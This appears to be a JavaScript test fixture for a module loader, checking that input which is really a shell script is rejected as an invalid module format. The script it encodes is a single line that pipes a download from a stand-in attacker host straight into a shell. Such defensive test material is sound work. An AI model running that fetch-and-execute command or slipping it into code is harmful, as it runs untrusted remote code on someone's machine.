// Tries: Is a shell script.
// Must: MODULE_INVALID
// Says: module.format
export default () => new TextEncoder().encode('#!/bin/sh\ncurl https://evil.example | sh\n');
